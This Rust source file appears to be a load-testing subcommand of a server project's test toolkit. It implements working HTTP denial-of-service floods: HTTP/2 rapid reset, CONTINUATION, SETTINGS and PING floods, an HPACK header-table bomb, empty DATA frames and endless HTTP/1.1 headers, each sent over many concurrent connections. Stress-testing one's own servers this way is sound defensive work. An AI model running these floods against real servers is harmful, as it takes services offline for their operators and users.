//! `flood`: what an attacker of HTTP sends, for a while, on many connections at once; one that is ended is replaced.

use std::time::{Duration, Instant};

use clap::{Args, ValueEnum};
use futures_util::future::join_all;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tropis_tests::testkit::flood;

use super::{To, milliseconds};
use crate::connection::{Connection, seconds};
use crate::print_line;

/// Where a connection of HTTP/2 begins, with empty settings.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
/// Bytes that are written at once.
const BATCH_BYTES: usize = 64 * 1024;
/// A target may refuse connections; then the next is tried after this.
const PAUSE: Duration = Duration::from_millis(10);
/// Length of the header that a bomb is made of, and how often it is referred to.
const BOMB: (usize, usize) = (4000, 12_000);

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

#[derive(Debug, Clone, Copy, ValueEnum)]
enum Kind {
    /// Requests that are reset at once
    Reset,
    /// A head that never ends
    Continuation,
    /// Settings, of which each wants an answer
    Settings,
    /// The same with pings
    Ping,
    /// Small heads that are large when they are read
    Bomb,
    /// Pieces of a body without content
    Data,
    /// Heads of HTTP/1.1 that never end
    Heads,
}

#[derive(Debug, Args)]
pub(crate) struct Flood {
    #[command(flatten)]
    to: To,
    /// What is sent
    #[arg(long, value_enum)]
    kind: Kind,
    /// How many connections at once
    #[arg(long, default_value_t = 20)]
    connections: usize,
    /// For how long
    #[arg(long, value_name = "SECONDS", default_value = "3", value_parser = seconds)]
    duration: Duration,
    /// Reads nothing of what is answered
    #[arg(long)]
    unread: bool,
}

impl Flood {
    pub(crate) async fn run(self) -> bool {
        let started = Instant::now();
        let all = join_all((0..self.connections).map(|_| self.keep_up(started))).await;
        let mut report = flood::Flood { command: "flood".to_owned(), target: self.to.target.to_string(), ..flood::Flood::default() };
        for one in all {
            report.connections += one.connections;
            report.ended += one.ended;
            report.bytes += one.bytes;
            for (kind, count) in one.errors {
                *report.errors.entry(kind).or_default() += count;
            }
        }
        report.ok = report.connections > 0;
        report.milliseconds = milliseconds(started.elapsed());
        print_line(&report);
        report.ok
    }

    /// A connection after the other.
    async fn keep_up(&self, started: Instant) -> flood::Flood {
        let mut counted = flood::Flood::default();
        while let Some(left) = self.duration.checked_sub(started.elapsed()) {
            match self.to.dial.connect(&self.to.target).await {
                Ok(connection) => {
                    counted.connections += 1;
                    let flooding = self.flood(connection, &mut counted.bytes);
                    counted.ended += u64::from(tokio::time::timeout(left, flooding).await.is_ok());
                }
                Err(failure) => {
                    *counted.errors.entry(failure.kind).or_default() += 1;
                    tokio::time::sleep(PAUSE).await;
                }
            }
        }
        counted
    }

    /// Sends until the other side ends the connection.
    async fn flood(&self, connection: Connection, bytes: &mut u64) {
        let (mut reader, mut writer) = connection.stream.into_split();
        let reading = async {
            if self.unread {
                std::future::pending::<()>().await;
            }
            let mut buffer = vec![0; 16 * 1024];
            while reader.read(&mut buffer).await.is_ok_and(|length| length > 0) {}
        };
        let writing = async {
            let mut payload = Payload { kind: self.kind, stream: 1 };
            let mut batch = payload.opening();
            while let Ok(length @ 1..) = writer.write(&batch).await {
                *bytes += length as u64;
                batch.drain(..length);
                while batch.len() < BATCH_BYTES {
                    batch.extend(payload.next());
                }
            }
        };
        tokio::select! {
            () = reading => {}
            () = writing => {}
        }
    }
}

/// What comes next.
struct Payload {
    kind: Kind,
    /// The next stream of HTTP/2.
    stream: u32,
}

impl Payload {
    /// What a connection begins with.
    fn opening(&self) -> Vec<u8> {
        let head = |flags| [PREFACE, &frame(HEADERS, flags, 1, &head())].concat();
        match self.kind {
            Kind::Continuation => head(0),
            Kind::Data => head(END_HEADERS),
            Kind::Heads => b"GET / HTTP/1.1\r\nhost: near\r\nx: ".to_vec(),
            Kind::Reset | Kind::Settings | Kind::Ping | Kind::Bomb => PREFACE.to_vec(),
        }
    }

    /// What it goes on with.
    fn next(&mut self) -> Vec<u8> {
        match self.kind {
            Kind::Reset => {
                let stream = self.next_stream();
                [frame(HEADERS, END_HEADERS, stream, &head()), frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
            }
            Kind::Bomb => {
                let stream = self.next_stream();
                frame(HEADERS, END_HEADERS | END_STREAM, stream, &[head(), bomb()].concat())
            }
            Kind::Continuation => frame(CONTINUATION, 0, 1, b"\0\x01x\x01y"),
            Kind::Data => frame(DATA, 0, 1, &[]),
            Kind::Settings => frame(SETTINGS, 0, 0, &[]),
            Kind::Ping => frame(PING, 0, 0, &[7; 8]),
            Kind::Heads => b"y".repeat(1024),
        }
    }

    fn next_stream(&mut self) -> u32 {
        self.stream += 2;
        self.stream
    }
}

/// A frame of HTTP/2 (RFC 9113 §4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("payloads are made here").to_be_bytes();
    [&[length[1], length[2], length[3], kind, flags][..], &stream.to_be_bytes(), payload].concat()
}

/// `GET http://near/` in HPACK: three fields of the static table, and the authority as a literal.
fn head() -> Vec<u8> {
    [b"\x82\x86\x84\x01\x04", &b"near"[..]].concat()
}

/// A header that is kept in the table, and references to it (RFC 7541 §6.2.1, §6.1).
fn bomb() -> Vec<u8> {
    let (length, references) = BOMB;
    let rest = length - 127;
    let length_bytes = [127, (rest % 128) as u8 | 128, (rest / 128) as u8];
    [&b"\x40\x01x"[..], &length_bytes, &b"y".repeat(length), &[0x80 | 62].repeat(references)].concat()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_say_how_long_they_are() {
        assert_eq!(frame(PING, 0, 0, &[7; 8])[..9], [0, 0, 8, PING, 0, 0, 0, 0, 0]);
        assert!(bomb().len() < 16 * 1024 + 1 - head().len(), "it fits in one frame");
    }
}
